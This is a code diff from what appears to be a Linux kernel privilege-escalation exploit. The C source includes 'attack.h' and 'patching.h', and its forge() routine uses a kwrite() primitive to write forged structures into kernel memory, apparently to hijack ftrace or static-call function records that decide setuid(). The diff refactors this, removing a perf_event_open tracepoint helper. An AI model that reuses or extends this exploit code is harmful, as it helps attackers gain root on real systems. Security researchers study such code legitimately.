@@ -6,17 +6,16 @@
  * functions there are, and what is called in them, are records and a table in ordinary
  * memory. So the first lines of who decides about setuid() call an end of a function.
  */
-#include <linux/perf_event.h>
 #include <errno.h>
 #include <stddef.h>
 #include <string.h>
-#include <sys/syscall.h>
 #include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
 #include "objects.h"
 #include "patching.h"
+#include "static_calls.h"
 
 #ifdef __x86_64__
 #define EVENT		"event_task_rename"
@@ -25,7 +24,6 @@
 #define DIRECT_TABLE	"direct_functions"
 #define EVENT_CLASS	16		/* in struct trace_event_call */
 #define EVENT_TYPE	48
-#define CALL		0xe8
 #define FL_DIRECT	(1UL << 24)
 
 struct forged {
@@ -65,16 +63,6 @@ static void forge(uint64_t at, uint64_t code, uint64_t target)
 	};
 
 	kwrite(at, &forged, sizeof(forged));
-}
-
-static int count_events(int id)
-{
-	struct perf_event_attr attr = {
-		.type = PERF_TYPE_TRACEPOINT, .size = sizeof(attr), .config = id,
-		.exclude_kernel = 1, .exclude_hv = 1,
-	};
-
-	return syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0);
 }
 
 enum outcome ftrace_anybody(void)
